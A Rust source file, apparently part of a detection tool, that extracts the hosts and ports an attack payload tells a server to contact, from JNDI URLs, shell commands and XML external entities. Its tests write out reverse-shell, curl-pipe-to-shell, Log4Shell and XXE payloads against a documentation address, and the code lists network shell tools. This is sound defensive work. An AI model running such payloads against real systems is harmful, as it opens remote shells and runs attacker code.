//! Whom a payload tells the server to call: addresses, and ports of host names.
//!
//! In: a value with a payload, as a layer of it reads. Out: [`Target`]s. Kept: nothing; a host name is not even hashed.

use std::net::{IpAddr, Ipv6Addr};

use memchr::memmem;
use model::contact::{Target, tag};
use model::flow::mapped;
use model::limits::TARGETS_PER_VALUE_MAX;

use super::target::v4;

/// Words before a host and a port, as shells know them.
const TOOLS: [&[u8]; 4] = [b"nc", b"ncat", b"telnet", b"netcat"];
/// Schemes without a port, and the port that is called. Those that use no TCP are left out.
const PORTS: [(&[u8], u16); 13] = [
    (b"ldap", 389),
    (b"ldaps", 636),
    (b"rmi", 1099),
    (b"iiop", 1050),
    (b"corba", 2809),
    (b"http", 80),
    (b"https", 443),
    (b"ftp", 21),
    (b"gopher", 70),
    (b"dict", 2628),
    (b"ws", 80),
    (b"wss", 443),
    (b"smb", 445),
];

/// Targets of one value, each once.
#[derive(Debug, Default)]
pub(crate) struct Called {
    targets: Vec<Target>,
}

impl Called {
    pub(super) fn clear(&mut self) {
        self.targets.clear();
    }

    /// What was found since the last clear.
    pub(crate) fn targets(&self) -> &[Target] {
        &self.targets
    }

    /// Takes every URL in `text`, which matched that rule.
    pub(super) fn urls(&mut self, rule: u8, text: &[u8]) {
        for at in memmem::find_iter(text, b"://").take(TARGETS_PER_VALUE_MAX) {
            let (before, after) = (text.get(..at).unwrap_or_default(), text.get(at + 3..).unwrap_or_default());
            let begin = before.iter().rposition(|byte| !is_scheme(*byte)).map_or(0, |at| at + 1);
            let scheme = before.get(begin..).unwrap_or_default();
            self.host(rule, after, port_of(scheme));
        }
    }

    /// Takes a value that is a host, with a port or without; one without a scheme's port is called on any.
    pub(super) fn bare(&mut self, rule: u8, value: &[u8]) {
        self.host(rule, value.strip_prefix(b"//").unwrap_or(value), 0);
    }

    /// Takes what a shell is told to connect to.
    pub(super) fn shell(&mut self, rule: u8, text: &[u8]) {
        self.urls(rule, text);
        if let Some(at) = memmem::find(text, b"/dev/tcp/") {
            let rest = text.get(at + 9..).unwrap_or_default();
            let mut parts = rest.splitn(2, |byte| *byte == b'/');
            let (host, port) = (parts.next().unwrap_or_default(), parts.next().unwrap_or_default());
            self.pair(rule, host, port);
        }
        let words: Vec<&[u8]> =
            text.split(|byte| is_end(*byte) || *byte == b'$').filter(|word| !word.is_empty()).collect();
        let tool = |word: &[u8]| TOOLS.contains(&word.rsplit(|byte| *byte == b'/').next().unwrap_or(word));
        let Some(at) = words.iter().position(|word| tool(word)) else { return };
        let two = words.get(at + 1..).unwrap_or_default().windows(2).find_map(|two| {
            let [host, port] = two else { return None };
            let is_host = is_name(host) || address(host).is_some();
            Some((*host, number(port)?)).filter(|_| is_host)
        });
        if let Some((host, port)) = two {
            self.target(rule, host, port);
        }
    }

    /// Takes the identifiers of external entities of a document.
    pub(super) fn entities(&mut self, rule: u8, text: &[u8]) {
        for word in [&b"SYSTEM"[..], b"PUBLIC"] {
            for at in memmem::find_iter(text, word).take(TARGETS_PER_VALUE_MAX) {
                let declared = text.get(at..).unwrap_or_default();
                let end = declared.iter().position(|byte| *byte == b'>').unwrap_or(declared.len());
                self.urls(rule, declared.get(..end).unwrap_or_default());
            }
        }
    }

    fn pair(&mut self, rule: u8, host: &[u8], port: &[u8]) {
        let end = port.iter().position(|byte| !byte.is_ascii_digit()).unwrap_or(port.len());
        if let Some(port) = number(port.get(..end).unwrap_or_default()) {
            self.target(rule, host, port);
        }
    }

    /// Takes the authority that `rest` begins with.
    fn host(&mut self, rule: u8, rest: &[u8], usual: u16) {
        let end = rest.iter().position(|byte| is_end(*byte) || matches!(byte, b'/' | b'?' | b'#' | b'\\'));
        let authority = end.and_then(|end| rest.get(..end)).unwrap_or(rest);
        let host = authority.rsplit(|byte| *byte == b'@').next().unwrap_or(authority);
        let (host, port) = match host.strip_prefix(b"[") {
            Some(v6) => {
                let mut parts = v6.splitn(2, |byte| *byte == b']');
                let host = parts.next().unwrap_or_default();
                (host, parts.next().unwrap_or_default().strip_prefix(b":"))
            }
            None => match host.iter().position(|byte| *byte == b':') {
                Some(at) => (host.get(..at).unwrap_or_default(), host.get(at + 1..)),
                None => (host, None),
            },
        };
        let port = port.filter(|port| !port.is_empty());
        let Some(port) = port.map_or(Some(usual), number) else { return };
        self.target(rule, host, port);
    }

    fn target(&mut self, rule: u8, host: &[u8], port: u16) {
        let addr = address(host);
        // A name without a port says nothing.
        if addr.is_none() && (port == 0 || !is_name(host)) {
            return;
        }
        let target = Target { rule, addr: addr.map(|addr| tag(&addr)), port };
        if self.targets.len() < TARGETS_PER_VALUE_MAX && !self.targets.contains(&target) {
            self.targets.push(target);
        }
    }
}

/// The address that a host is; `None` for a name.
fn address(host: &[u8]) -> Option<[u8; 16]> {
    let text = std::str::from_utf8(host).ok()?.trim_end_matches('.');
    let v4 = v4(&text.to_ascii_lowercase()).map(IpAddr::V4);
    let addr = v4.or_else(|| text.parse::<Ipv6Addr>().ok().map(IpAddr::V6))?;
    Some(match addr.to_canonical() {
        IpAddr::V4(v4) => mapped(v4.octets()),
        IpAddr::V6(v6) => v6.octets(),
    })
}

/// Whether it may be the name of a host elsewhere.
fn is_name(host: &[u8]) -> bool {
    let fits = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
    host.contains(&b'.') && host.iter().all(fits)
}

fn port_of(scheme: &[u8]) -> u16 {
    // `jar:http://`, `url:ldap://`: the last one is called.
    let last = scheme.rsplit(|byte| *byte == b':').next().unwrap_or(scheme);
    PORTS.iter().find(|(name, _)| last.eq_ignore_ascii_case(name)).map_or(0, |(_, port)| *port)
}

fn number(digits: &[u8]) -> Option<u16> {
    std::str::from_utf8(digits).ok()?.parse().ok().filter(|port| *port > 0)
}

fn is_scheme(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.' | b':')
}

/// What no host goes on after.
fn is_end(byte: u8) -> bool {
    byte <= b' '
        || matches!(byte, b'"' | b'\'' | b'<' | b'>' | b'{' | b'}' | b'|' | b';' | b'&' | b'`' | b'(' | b')' | b',')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(read: impl Fn(&mut Called)) -> Vec<(Option<u64>, u16)> {
        let mut called = Called::default();
        read(&mut called);
        called.targets().iter().map(|target| (target.addr, target.port)).collect()
    }

    #[test]
    fn addresses_are_read_with_their_port_and_names_by_it_alone() {
        let evil = Some(tag(&mapped([198, 51, 100, 9])));
        for (text, expected) in [
            (&b"jndi:ldap://198.51.100.9:1389/a"[..], vec![(evil, 1389)]),
            (b"jndi:ldap://198.51.100.9/a", vec![(evil, 389)]),
            (b"jndi:rmi://u:p@198.51.100.9/a", vec![(evil, 1099)]),
            (b"jndi:ldap://a.evil.example/a", vec![(None, 389)]),
            (b"http://0xc6336409:8080/", vec![(evil, 8080)]),
            (b"jar:http://198.51.100.9!/x", vec![]),
            (
                b"http://[2001:db8::9]:81/",
                vec![(Some(tag(&[0x20, 1, 0xd, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 9])), 81)],
            ),
            (b"http://[::ffff:198.51.100.9]/", vec![(evil, 80)]),
            (b"expect://id", vec![]),
            (b"file:///etc/passwd", vec![]),
            (b"http://a.example:99999/", vec![]),
        ] {
            assert_eq!(read(|called| called.urls(1, text)), expected, "{}", String::from_utf8_lossy(text));
        }
        assert_eq!(read(|called| called.bare(1, b"198.51.100.9:22")), [(evil, 22)]);
        assert_eq!(read(|called| called.bare(1, b"198.51.100.9/x")), [(evil, 0)]);
    }

    #[test]
    fn shells_and_entities_name_targets_too() {
        let evil = Some(tag(&mapped([198, 51, 100, 9])));
        for text in [
            &b"x; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"[..],
            b"x | nc -e /bin/sh 198.51.100.9 4444",
            b"x;curl http://198.51.100.9:4444/a|sh",
        ] {
            assert_eq!(read(|called| called.shell(1, text)), [(evil, 4444)], "{}", String::from_utf8_lossy(text));
        }
        let document = b"<a xmlns='http://other.example/'><!ENTITY x SYSTEM \"http://198.51.100.9/e.dtd\"></a>";
        assert_eq!(read(|called| called.entities(1, document)), [(evil, 80)]);
    }

    #[test]
    fn targets_are_few() {
        let many = (0..99).map(|n| format!("http://192.0.2.{n}/ ")).collect::<Vec<_>>().concat();
        assert_eq!(read(|called| called.urls(1, many.as_bytes())).len(), TARGETS_PER_VALUE_MAX);
    }
}
